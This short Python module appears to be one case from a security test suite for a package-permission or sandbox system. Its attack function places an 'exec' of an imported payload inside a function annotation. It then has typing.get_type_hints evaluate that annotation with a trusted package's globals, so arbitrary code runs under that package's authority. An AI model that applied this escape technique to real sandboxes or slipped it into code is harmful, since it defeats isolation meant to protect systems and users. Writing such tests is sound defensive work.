"""typing evaluates an annotation with a granted package's globals."""
CATEGORY = "forging"
REACH = "net"

import typing

from . import payload


def attack():
    import good

    def function(value):
        pass

    function.__annotations__ = {"value": f"exec({payload.SOURCE!r})"}
    typing.get_type_hints(function, globalns=vars(good))
